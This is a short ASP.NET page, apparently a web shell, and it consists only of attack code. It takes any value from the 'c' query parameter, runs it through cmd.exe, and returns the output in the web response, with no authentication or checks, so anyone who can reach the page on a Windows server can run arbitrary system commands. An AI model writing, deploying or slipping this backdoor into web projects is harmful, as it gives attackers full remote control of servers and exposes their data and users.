<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    string c = Request.QueryString["c"];
    if (String.IsNullOrEmpty(c)) return;
    ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + c);
    psi.RedirectStandardOutput = true;
    psi.UseShellExecute = false;
    Process p = Process.Start(psi);
    Response.Write(Server.HtmlEncode(p.StandardOutput.ReadToEnd()));
}
</script>
